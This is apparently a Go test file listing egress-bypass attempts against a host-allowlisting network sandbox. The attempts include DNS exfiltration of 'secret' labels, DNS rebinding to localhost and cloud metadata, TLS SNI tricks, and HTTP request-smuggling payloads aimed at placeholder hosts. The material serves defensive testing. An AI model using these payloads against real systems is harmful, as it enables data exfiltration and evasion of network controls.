package main

import (
	"fmt"
	"strings"
)

// namedRows are what a command tries that may reach some hosts by name, each with names
// and servers of the test's outside (internet_security_test.go).
var namedRows = slicesOf(addressRows, questionRows, leadRows, tlsRows, webRows)

func slicesOf(some ...[]row) (all []row) {
	for _, rows := range some {
		all = append(all, rows...)
	}
	return all
}

// named is a row of a command that may reach good.example.com and front.example.com.
func named(id, tries string, cmd ...string) row {
	return row{id: "net-" + id, group: "network", tries: tries, views: hostOnly, setup: reaching, flags: []string{"--allow", "good.example.com", "--allow", "front.example.com"},
		cmd: append([]string{"{ATTACKS}"}, cmd...), judge: func(s *scene) string {
			return firstOf(told(s), dialledOnly(s, "192.0.2.1:80", "192.0.2.1:443", "192.0.2.3:80", "192.0.2.3:443"))
		}}
}

func firstOf(texts ...string) string {
	for _, text := range texts {
		if text != "" {
			return text
		}
	}
	return ""
}

// with gives other flags.
func (r row) with(flags ...string) row {
	r.flags = flags
	return r
}

// dialling says what may be dialled: on other ports than those of the web the server may
// speak first, so that it is dialled before anything was said.
func (r row) dialling(addresses ...string) row {
	r.judge = func(s *scene) string { return firstOf(told(s), dialledOnly(s, addresses...)) }
	return r
}

// saying is a row that says something to an address and wants the marker as the answer.
func saying(id, tries, network, to string, parts ...string) row {
	return named(id, tries, append([]string{"say", network, "{" + to + "}", "{MARKER}"}, parts...)...)
}

// addressRows are other ports, addresses and ways than those of the names.
var addressRows = []row{
	saying("port", "reach another port of an allowed host", "tcp", "good.example.com:2000", "x"),
	saying("address", "reach an address instead of a name", "tcp", "192.0.2.2:2000", "x"),
	named("address-tls", "ask by TLS at an address for the name that is allowed elsewhere", "hello", "{192.0.2.2:443}", "{MARKER}", "bad.example.com", "plain"),
	saying("address-web", "ask by HTTP at an address", "tcp", "192.0.2.2:80", `GET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	named("address-allowed", "reach the address of an allowed name by itself", "hello", "{192.0.2.1:443}", "{MARKER}", "bad.example.com", "plain"),
	saying("six", "reach an IPv6 address", "tcp", "[2001:db8::2]:2000", "x"),
	saying("mapped", "reach an IPv4 address in the form of an IPv6 one", "tcp", "[::ffff:192.0.2.2]:2000", "x"),
	saying("metadata", "reach the metadata of a cloud", "tcp", "169.254.169.254:80", "x"),
	saying("dns-udp", "ask a name server of its own choice by UDP", "udp", "udp 192.0.2.2:53", "x"),
	saying("dns-tcp", "ask a name server of its own choice by TCP", "tcp", "192.0.2.2:53", `\x00\x01x`),
	saying("dns-tls", "ask a name server of its own choice by TLS", "tcp", "192.0.2.2:853", `\x16\x03\x01`),
	named("dns-https", "ask a name server of its own choice by HTTPS", "hello", "{192.0.2.2:443}", "{MARKER}", "dns.example.com", "plain"),
	saying("quic", "speak QUIC to an address", "udp", "udp 192.0.2.2:443", `\xc0\x00\x00\x00\x01`),
	saying("quic-made", "speak QUIC to the address that stands for an allowed name", "udp", "udp 198.18.1.0:443", `\xc0\x00\x00\x00\x01`),
	named("mptcp", "reach an address by MPTCP", "reach", "mptcp", "{192.0.2.2:2000}", "{MARKER}"),
	named("fastopen", "send data in the packet that connects", "reach", "fastopen", "{192.0.2.2:2000}", "{MARKER}"),
	named("foreign", "connect from an address that is not its own", "reach", "foreign", "{192.0.2.2:2000}", "{MARKER}"),
	named("source-route", "connect by way of another address", "reach", "source-route", "{192.0.2.2:2000}", "{MARKER}"),
	named("device", "connect by a device", "reach", "device", "{192.0.2.2:2000}", "{MARKER}"),
}

// questionRows are secrets told to the name server of some name.
var questionRows = []row{
	named("dns-long", "tell a secret by a long name", "ask", "udp", "{DNS}", strings.Repeat("secret-0123456789abcdef.", 9)+"bad.example.com.", "1", "1"),
	named("dns-long-tcp", "the same by TCP", "ask", "tcp", "{DNS}", strings.Repeat("secret-0123456789abcdef.", 9)+"bad.example.com.", "28", "1"),
	named("dns-below", "tell a secret by a name below an allowed one", "ask", "udp", "{DNS}", "secret.good.example.com.", "1", "1"),
	named("dns-above", "tell a secret by a name that only ends like an allowed one", "ask", "udp", "{DNS}", "secretgood.example.com.", "1", "1"),
	named("dns-text", "tell a secret by a question for text", "ask", "udp", "{DNS}", "secret.bad.example.com.", "16", "1"),
	named("dns-null", "tell a secret by a question for NULL", "ask", "udp", "{DNS}", "secret.bad.example.com.", "10", "1"),
	named("dns-any", "tell a secret by a question for all records", "ask", "udp", "{DNS}", "secret.bad.example.com.", "255", "1"),
	named("dns-axfr", "tell a secret by a zone transfer", "ask", "tcp", "{DNS}", "secret.good.example.com.", "252", "1"),
	named("dns-chaos", "tell a secret by a question of another class", "ask", "udp", "{DNS}", "secret.good.example.com.", "16", "3"),
	named("dns-reverse", "tell a secret by a name of ip6.arpa", "ask", "udp", "{DNS}", "secret.0.0.0.ip6.arpa.", "12", "1"),
	named("dns-service", "tell a secret by a service's name", "ask", "udp", "{DNS}", "_secret._tcp.good.example.com.", "33", "1"),
	named("dns-capitals", "tell a secret by the capitals of an allowed name", "ask", "udp", "{DNS}", "GoOd.eXaMpLe.CoM.", "1", "1"),
	named("dns-option", "tell a secret by an option of EDNS", "ask", "udp", "{DNS}", "good.example.com.", "1", "1", "secret"),
	named("dns-local", "tell a secret by a name of the machine's own", "ask", "udp", "{DNS}", "secret.local.", "1", "1"),
	named("dns-bare", "tell a secret by a name of one part, which search lists make long", "ask", "udp", "{DNS}", "secret.", "1", "1"),
}

// leads is a row of an allowed name that leads where nobody may go.
func leads(id, tries, name string, times int, flags ...string) row {
	r := named("lead-"+id, tries, "fetch", "{DNS}", name+".", "{PORT}", "{MARKER}", fmt.Sprint(times)).with(append([]string{"--allow", name + ":{PORT}"}, flags...)...)
	r.judge = func(s *scene) string { return firstOf(told(s), dialledOnly(s, "192.0.2.9:"+s.vars["PORT"])) }
	return r
}

// leadRows are names whose owner has them lead into the caller's machine and networks.
var leadRows = []row{
	leads("home", "have an allowed name lead to 127.0.0.1", "home.example.com", 1),
	leads("void", "have it lead to 0.0.0.0, which is this machine too", "void.example.com", 1),
	leads("six", "have it lead to ::1", "six.example.com", 1),
	leads("mapped", "have it lead to ::ffff:127.0.0.1", "mapped.example.com", 1),
	leads("nat", "have it lead to 127.0.0.1 by a translator's address", "nat.example.com", 1),
	leads("metadata", "have it lead to the metadata of a cloud", "meta.example.com", 1),
	leads("alias", "have it be an alias of a name that does", "alias.example.com", 1),
	leads("mixed", "have it lead to a public address and to 127.0.0.1", "mixed.example.com", 1),
	leads("rebind", "have it lead to a public address first, and to 127.0.0.1 then", "rebind.example.com", 2),
	leads("rebind-metadata", "have it lead to a public address first, and to the metadata then", "rebind2.example.com", 2),
	leads("private-other", "the same where another name may be private", "home.example.com", 1, "--allow-private", "other.example.com"),
	leads("any", "have a name lead home where all names are allowed", "rebind.example.com", 2, "--allow", "*:{PORT}"),
}

// tlsRows are hellos that ask the server of an allowed name for another one.
var tlsRows = []row{
	named("tls-name", "ask the server of an allowed name by TLS for another one", "hello", "{good.example.com:443}", "{MARKER}", "bad.example.com", "plain"),
	named("tls-none", "ask it for none", "hello", "{good.example.com:443}", "{MARKER}", "", "plain"),
	named("tls-bytes", "ask it for another a byte at a time", "hello", "{good.example.com:443}", "{MARKER}", "bad.example.com", "bytes"),
	named("tls-records", "ask it in a record for each byte", "hello", "{good.example.com:443}", "{MARKER}", "bad.example.com", "records"),
	named("tls-huge", "ask it by a hello that is too long to be read", "hello", "{good.example.com:443}", "{MARKER}", "bad.example.com", "huge"),
	named("tls-old", "ask it by TLS 1.2", "hello", "{good.example.com:443}", "{MARKER}", "bad.example.com", "old"),
	named("tls-below", "ask it for a name below", "hello", "{good.example.com:443}", "{MARKER}", "x.good.example.com", "plain"),
	named("tls-twice", "ask it by the second hello, which a server may want", "twice", "{retry.example.com:443}", "{MARKER}", "retry.example.com", "other.example.com").with("--allow", "retry.example.com").dialling("192.0.2.4:443"),
	saying("tls-ssl2", "ask by the hello of SSL 2, which names nothing", "tcp", "front.example.com:443", `\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10 bad.example.com`),
	saying("tls-plain", "speak HTTP on the port of TLS", "tcp", "front.example.com:443", `GET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("tls-connect", "ask for a tunnel on the port of TLS", "tcp", "front.example.com:443", `CONNECT bad.example.com:443 HTTP/1.1\r\n\r\n`),
	saying("tls-socks", "speak SOCKS on the port of TLS", "tcp", "front.example.com:443", `\x05\x01\x00`, `\x05\x01\x00\x03\x0fbad.example.com\x01\xbb`),
	saying("tls-ssh", "speak SSH on the port of TLS", "tcp", "front.example.com:443", `SSH-2.0-bad.example.com\r\n`),
	saying("tls-alert", "begin with another record", "tcp", "front.example.com:443", `\x15\x03\x01\x00\x02\x01\x00`, `bad.example.com`),
	named("tls-other", "ask by TLS on another port for another name", "hello", "{good.example.com:8443}", "{MARKER}", "bad.example.com", "plain").with("--allow", "good.example.com:8443").dialling("192.0.2.1:8443"),
}

const good = `GET / HTTP/1.1\r\nHost: front.example.com\r\n\r\n`

// webRows are requests for another host, or such as two servers read in two ways.
var webRows = []row{
	saying("web-host", "name another host than was asked for", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-second", "name another one in the second request", "tcp", "front.example.com:80", good, `GET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-pipelined", "name it in the same packet", "tcp", "front.example.com:80", good+`GET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-absolute", "name it in the first line", "tcp", "front.example.com:80", `GET http://bad.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n`),
	saying("web-user", "name it behind a user's name", "tcp", "front.example.com:80", `GET http://front.example.com@bad.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n`),
	saying("web-connect", "ask for a tunnel", "tcp", "front.example.com:80", `CONNECT bad.example.com:443 HTTP/1.1\r\nHost: front.example.com\r\n\r\n`),
	saying("web-two", "name two hosts", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: front.example.com\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-folded", "name it in a folded line", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost:\r\n bad.example.com\r\n\r\n`),
	saying("web-space", "name it behind a space before the colon", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: front.example.com\r\nHost : bad.example.com\r\n\r\n`),
	saying("web-none", "name it by a request without a host", "tcp", "front.example.com:80", `GET /bad.example.com HTTP/1.0\r\n\r\n`),
	saying("web-oldest", "ask by HTTP/0.9", "tcp", "front.example.com:80", `GET /bad.example.com\r\n`),
	saying("web-newlines", "end lines by line feeds alone", "tcp", "front.example.com:80", `GET / HTTP/1.1\nHost: bad.example.com\n\n`),
	saying("web-nul", "name it behind a zero byte", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: front.example.com\x00bad.example.com\r\n\r\n`),
	saying("web-smuggled", "hide a request in a body of two lengths", "tcp", "front.example.com:80",
		`POST / HTTP/1.1\r\nHost: front.example.com\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-coding", "hide it behind a coding that one server does not know", "tcp", "front.example.com:80",
		`POST / HTTP/1.1\r\nHost: front.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-chunk", "hide it behind a chunk whose size is read in two ways", "tcp", "front.example.com:80",
		`POST / HTTP/1.1\r\nHost: front.example.com\r\nTransfer-Encoding: chunked\r\n\r\n`, `0x0\r\n\r\nGET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-lengths", "hide it behind two lengths", "tcp", "front.example.com:80",
		`POST / HTTP/1.1\r\nHost: front.example.com\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\nGET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
	saying("web-h2", "speak HTTP/2, whose requests are not read", "tcp", "front.example.com:80", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nbad.example.com`),
	saying("web-upgrade", "change to HTTP/2", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: front.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n`, `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nbad.example.com`),
	saying("web-tls", "speak TLS on the port of HTTP", "tcp", "front.example.com:80", `\x16\x03\x01\x00\x30 bad.example.com`),
	saying("web-socks", "speak SOCKS on the port of HTTP", "tcp", "front.example.com:80", `\x05\x01\x00`, `\x05\x01\x00\x03\x0fbad.example.com\x01\xbb`),
	saying("web-urgent", "send urgent data before it", "tcp", "front.example.com:80", `GET / HTTP/1.1\r\nHost: `, `urgent b`, `bad.example.com\r\n\r\n`),
	saying("web-port", "name the host with another port", "tcp", "front.example.com:80", `GET /bad.example.com HTTP/1.1\r\nHost: front.example.com:8080\r\n\r\n`),
	saying("web-later", "name another one behind the end of a body", "tcp", "front.example.com:80",
		`POST / HTTP/1.1\r\nHost: front.example.com\r\nContent-Length: 3\r\n\r\n`, `xyzGET / HTTP/1.1\r\nHost: bad.example.com\r\n\r\n`),
}
